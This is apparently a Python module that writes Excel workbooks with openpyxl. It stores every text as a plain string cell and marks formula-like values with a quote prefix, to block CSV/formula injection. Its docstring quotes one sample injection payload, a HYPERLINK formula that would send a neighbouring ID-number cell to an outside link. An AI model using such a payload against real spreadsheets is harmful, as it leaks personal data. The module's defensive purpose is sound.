"""The one .xlsx writer: every export and import template is a list of `Sheet`s written here.

Every text becomes a string cell holding exactly the text given, headers included. Left to
itself openpyxl stores a text starting with "=" as a live formula (and "#N/A" as an error), so
a worker named =HYPERLINK("http://…?"&E2,"点击") would hand the next column, a full ID number,
to whoever owns the link (DESIGN.md §5: exported cells never start a formula). A string cell is
never evaluated; one that starts like a formula (= + - @, tab, CR) is also flagged quotePrefix,
Excel's mark for text typed after an apostrophe, so that editing the cell keeps it text. The
value itself is never altered (no apostrophe is added): organisers get back what was entered.
"""

import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

DATE_FORMAT = "yyyy-mm-dd"
TEXT_FORMAT = "@"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOLD = Font(bold=True)


@dataclass(frozen=True)
class Column:
    header: str
    width: float | None = None
    number_format: str | None = None  # of every cell below the header: "0.00", TEXT_FORMAT…


@dataclass
class Sheet:
    title: str
    columns: Sequence[Column] = ()  # none: no header row, as on a sheet of notes
    rows: Iterable[Sequence] = ()
    blank_rows: int = 0  # empty rows formatted for people to fill in (import templates)
    rows_written: int = 0  # set by workbook_bytes: how many `rows` went out
    # Drop-down lists: {column index: the cells holding the choices, e.g. "'选项'!$A$2:$A$9"},
    # offered on every row written or left blank below the header.
    lists: dict[int, str] = field(default_factory=dict)


def workbook_bytes(*sheets: Sheet) -> bytes:
    """The sheets as one .xlsx file, written row by row (openpyxl's write-only mode)."""
    workbook = Workbook(write_only=True)
    for sheet in sheets:
        _write_sheet(workbook.create_sheet(sheet.title), sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _write_sheet(worksheet, sheet: Sheet) -> None:
    formats = [column.number_format for column in sheet.columns]
    if sheet.columns:
        for index, column in enumerate(sheet.columns, start=1):
            if column.width:
                worksheet.column_dimensions[get_column_letter(index)].width = column.width
        worksheet.freeze_panes = "A2"
        worksheet.append([typed_cell(worksheet, column.header, bold=True)
                          for column in sheet.columns])
    sheet.rows_written = 0
    for row in sheet.rows:
        worksheet.append([typed_cell(worksheet, value,
                                     formats[index] if index < len(formats) else None)
                          for index, value in enumerate(row)])
        sheet.rows_written += 1
    if sheet.blank_rows and any(formats):
        for _row in range(sheet.blank_rows):
            worksheet.append([_blank_cell(worksheet, number_format) for number_format in formats])
    last_row = 1 + max(sheet.rows_written + sheet.blank_rows, 1)
    for index, cells in sheet.lists.items():
        choice = DataValidation(type="list", formula1=cells, allow_blank=True)
        letter = get_column_letter(index + 1)
        choice.add(f"{letter}2:{letter}{last_row}")
        worksheet.data_validations.append(choice)


def typed_cell(worksheet, value, number_format: str | None = None, *, bold: bool = False):
    """A cell for `value`: a str is always a string cell, whatever it starts with."""
    if value is None:
        return None
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl made it "f" for "=…" and "e" for "#N/A"
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    if number_format:
        cell.number_format = number_format
    elif isinstance(value, date) and not isinstance(value, datetime):
        cell.number_format = DATE_FORMAT
    if bold:
        cell.font = BOLD
    return cell


def _blank_cell(worksheet, number_format: str | None):
    if number_format is None:
        return None
    cell = WriteOnlyCell(worksheet)
    cell.number_format = number_format
    return cell
